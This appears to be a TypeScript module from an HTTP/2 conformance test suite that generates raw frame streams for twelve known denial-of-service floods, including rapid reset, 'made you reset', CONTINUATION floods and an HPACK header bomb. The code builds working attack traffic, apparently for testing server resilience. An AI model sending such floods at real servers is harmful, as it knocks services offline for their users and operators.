// What attackers have sent over one connection of HTTP/2 (X11 to X13, P99), each as a function that gives the next portion of it.
import { CODE, FLAG, frame, number32, SETTING, settings, TYPE } from '../../conformance/raw/frame-peer.ts';
import { encode, encodeIndexed, NEWEST, type Pairs } from '../../conformance/raw/hpack.ts';

/** Portions are about as large as one write of a busy attacker. */
const PORTION = 500;
const BOMB_FIELDS = 4_000;
const NO_WINDOW = settings([[SETTING.window, 0]]);

export interface Flood {
  readonly name: string;
  /** Before the portions. */
  readonly first?: Buffer;
  /** `streams(n)`: the numbers of n new streams. */
  readonly portion: (streams: (count: number) => readonly number[]) => Buffer;
}

const repeat = (part: Buffer) => Buffer.concat(Array<Buffer>(PORTION).fill(part));

/** `get` and `post` ask for what the attacker wants the origin to do. */
export function floods(get: Pairs, post: Pairs): readonly Flood[] {
  const opening = encode(get);
  const body = encode(post);
  const begin = (id: number, block: Buffer) => frame(TYPE.headers, FLAG.endHeaders, id, block);
  const ask = (id: number) => frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, id, opening);
  const each = (make: (id: number) => Buffer[]): Flood['portion'] => {
    return (streams) => Buffer.concat(streams(PORTION).flatMap(make));
  };
  const bomb = Buffer.concat([opening, encodeIndexed('x', 'y'), Buffer.alloc(BOMB_FIELDS, NEWEST)]);
  return [
    { name: 'rapid reset', portion: each((id) => [ask(id), frame(TYPE.reset, 0, id, number32(CODE.cancel))]) },
    {
      name: 'rapid reset, one by one',
      portion: (streams) =>
        Buffer.concat(streams(1).flatMap((id) => [ask(id), frame(TYPE.reset, 0, id, number32(CODE.cancel))])),
    },
    { name: 'made you reset', portion: each((id) => [begin(id, body), frame(TYPE.windowUpdate, 0, id, number32(0))]) },
    {
      name: 'made you reset by priority',
      portion: each((id) => [begin(id, body), frame(TYPE.priority, 0, id, Buffer.alloc(4))]),
    },
    {
      name: 'continuation',
      first: frame(TYPE.headers, FLAG.endStream, 1, opening),
      portion: () => repeat(frame(TYPE.continuation, 0, 1, encode([['x', 'y']]))),
    },
    {
      name: 'empty continuation',
      first: frame(TYPE.headers, FLAG.endStream, 1, opening),
      portion: () => repeat(frame(TYPE.continuation, 0, 1)),
    },
    {
      name: 'header bomb',
      first: frame(TYPE.settings, 0, 0, NO_WINDOW),
      portion: (streams) => Buffer.concat(streams(10).map((id) => begin(id, bomb))),
    },
    { name: 'ping', portion: () => repeat(frame(TYPE.ping, 0, 0, Buffer.alloc(8))) },
    { name: 'settings', portion: () => repeat(frame(TYPE.settings, 0, 0, settings([[SETTING.window, 65_535]]))) },
    { name: 'priority', portion: () => repeat(frame(TYPE.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16]))) },
    { name: 'empty data', first: begin(1, body), portion: () => repeat(frame(TYPE.data, 0, 1)) },
    {
      name: 'window updates',
      first: begin(1, body),
      portion: () => repeat(frame(TYPE.windowUpdate, 0, 1, number32(1))),
    },
  ];
}

/** Numbers of streams that have not been used. */
export function numbering(): (count: number) => readonly number[] {
  let next = 1;
  return (count) => {
    const first = next;
    next += 2 * count;
    return Array.from({ length: count }, (_, i) => first + 2 * i);
  };
}
